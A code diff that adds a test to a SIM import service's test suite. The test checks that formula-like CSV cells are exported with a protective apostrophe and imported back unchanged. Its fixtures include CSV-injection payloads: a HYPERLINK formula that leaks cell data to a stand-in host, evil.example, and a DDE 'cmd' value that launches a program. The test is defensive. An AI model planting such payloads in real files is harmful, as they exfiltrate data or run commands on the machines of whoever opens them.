@@ -289,6 +289,34 @@ describe('SIM import service', () => {
     expect(again).toBe(out);
   });
 
+  it('exports formulas spreadsheet-safe (a leading apostrophe) and imports them back as they were', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(A1)', '-5'];
+    const lines: CsvLine[] = validLines(t.child.number, formulas.length).map((l, i) => ({
+      ...l,
+      label: formulas[i]!,
+      'custom.note': formulas[(i + 1) % formulas.length]!,
+    }));
+    const cols = [...COLS, 'label', 'custom.note'];
+    expect((await svc().importCsv(staff, toCsv(cols, lines), { mode: 'atomic', upsert: false })).job.status).toBe(
+      'succeeded',
+    );
+    const stored = () =>
+      h.ctx.database.query<{ label: string; note: string }>(
+        `SELECT labels[1] AS label, custom_fields->>'note' AS note FROM sims WHERE iccid = ANY($1::text[]) ORDER BY iccid`,
+        [lines.map((l) => l.iccid!.slice(0, 19))],
+      );
+    const first = await stored();
+    expect(first.map((r) => r.label).sort()).toEqual([...formulas].sort());
+    const iccids = new Set(lines.map((l) => l.iccid));
+    const out = await text(await h.services.simExports.exportCsv(staff, { accountId: t.child.id }));
+    const mine = (parse(out, { columns: true }) as Record<string, string>[]).filter((r) => iccids.has(r.iccid!));
+    expect(mine).toHaveLength(formulas.length);
+    for (const r of mine) expect([r.label![0], r['custom.note']![0]]).toEqual(["'", "'"]);
+    // Back in, each apostrophe comes off again: the SIMs are as they were.
+    expect((await svc().importCsv(staff, out, { mode: 'atomic', upsert: true })).job.status).toBe('succeeded');
+    expect(await stored()).toEqual(first);
+  });
+
   it('across chunk boundaries: a late duplicate undoes the fast path (atomic) or only skips its line', async () => {
     const lines = validLines(t.child.number, 7);
     lines[5]!.msisdn = lines[0]!.msisdn!; // line 7 repeats line 2, two chunks later
